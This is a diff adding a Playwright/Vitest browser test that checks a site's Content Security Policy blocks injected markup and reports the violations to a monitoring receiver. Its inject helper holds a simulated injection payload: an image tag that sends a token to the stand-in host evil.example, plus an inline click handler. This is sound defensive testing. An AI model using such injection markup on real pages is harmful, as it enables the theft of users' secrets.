@@ -1,0 +1,96 @@
+import type { Page } from "playwright-core";
+import { afterAll, beforeAll, beforeEach, describe, expect, test } from "vitest";
+import { VIOLATIONS_PATH } from "#workers/monitoring/constants.ts";
+import { type Chromium, startChromium } from "#tests/support/clients/chromium.ts";
+import { startSecureSite } from "#tests/support/site/secure-site.ts";
+import { type Received, SentryReceiver } from "#tests/support/monitoring/sentry-receiver.ts";
+import { startSite } from "#tests/support/site/site.ts";
+import { itemsOf } from "#tests/browser/support/outbox.ts";
+import { open, withBrowser } from "#tests/browser/support/steps.ts";
+
+/** What the policy blocks in a real browser is a report at the receiver. */
+const receiver = new SentryReceiver();
+let chromium: Chromium;
+beforeAll(async () => {
+  await receiver.listen();
+  // Reports leave after a minute by default; the certificate is nobody's.
+  chromium = await startChromium(["--short-reporting-delay", "--ignore-certificate-errors"]);
+});
+afterAll(async () => {
+  await chromium.close();
+  await receiver.close();
+});
+beforeEach(() => receiver.reset());
+
+/** As markup that was smuggled into a page would: a picture with what it stole in its address, and a handler. */
+async function inject(page: Page): Promise<void> {
+  await page.evaluate(() => {
+    const handler = `document.title = 'taken over'`;
+    const markup = `<img src="https://evil.example/stolen.png?token=stolen-secret"><b onclick="${handler}">Click</b>`;
+    document.body.insertAdjacentHTML("beforeend", markup);
+    [...document.querySelectorAll("b")].at(-1)?.click();
+  });
+  expect(await page.title()).not.toBe("taken over");
+}
+
+async function nextReport(): Promise<[Received, unknown]> {
+  for (;;) {
+    const received = await receiver.nextEnvelope();
+    const report = itemsOf(received).find(({ type }) => type === "raw_security");
+    if (report) return [received, report.payload["csp-report"]];
+  }
+}
+
+async function expectBoth(origin: string, path: string): Promise<void> {
+  const found = [await nextReport(), await nextReport()];
+  const document = `${origin}${path}`;
+  const wanted = [
+    { "effective-directive": "img-src", "blocked-uri": "https://evil.example", "document-uri": document },
+    { "effective-directive": "script-src-attr", "blocked-uri": "inline", "document-uri": document },
+  ];
+  expect(found.map(([, report]) => report)).toEqual(
+    expect.arrayContaining(wanted.map((fields) => expect.objectContaining(fields))),
+  );
+  for (const [{ text }] of found) expect(text).not.toMatch(/secret|nonce|taken over/);
+}
+
+describe("what a page of ours is kept from doing is reported", () => {
+  test("by the Reporting API, over https", async () => {
+    const site = await startSecureSite({ SENTRY_DSN: receiver.dsn, SENTRY_TRACES_SAMPLE_RATE: "0" });
+    await withBrowser(chromium, { javaScript: true }, async ({ page, context }) => {
+      // Reports are sent where a page may do things in the background, which people's browsers allow and this one asks about.
+      await context.grantPermissions(["background-sync"]);
+      const asked = page.goto(`${site.origin}/login?redirectTo=secret`);
+      expect((await (await asked)?.allHeaders())?.["reporting-endpoints"]).toBe(`policy="${VIOLATIONS_PATH}"`);
+      await inject(page);
+      await expectBoth(site.origin, "/login");
+    }).finally(site.close);
+  });
+
+  test("by a browser that knows report-uri alone", async () => {
+    const vars = { SENTRY_DSN: receiver.dsn, SENTRY_TRACES_SAMPLE_RATE: "0" };
+    const site = await startSite({ stripe: false, vars });
+    await withBrowser(chromium, {}, async (browsing) => {
+      // To such a browser the other directive says nothing.
+      await browsing.page.route("**/login?*", async (route) => {
+        const answer = await route.fetch();
+        const headers = answer.headers();
+        const policy = headers["content-security-policy"]?.replace("; report-to policy", "") ?? "";
+        await route.fulfill({ response: answer, headers: { ...headers, "content-security-policy": policy } });
+      });
+      const page = await open(browsing, `${site.origin}/login?redirectTo=secret`);
+      const answered = page.waitForResponse(`**${VIOLATIONS_PATH}`);
+      await inject(page);
+      expect((await answered).status()).toBe(204);
+      await expectBoth(site.origin, "/login");
+      // The next visit meets the same, which is known.
+      const reports = (): number => receiver.received.filter(({ text }) => text.includes("raw_security")).length;
+      const known = reports();
+      await open(browsing, `${site.origin}/login?redirectTo=other`);
+      const answeredAgain = page.waitForResponse(`**${VIOLATIONS_PATH}`);
+      await inject(page);
+      await answeredAgain;
+      expect(reports()).toBe(known);
+    }).finally(site.close);
+  });
+});
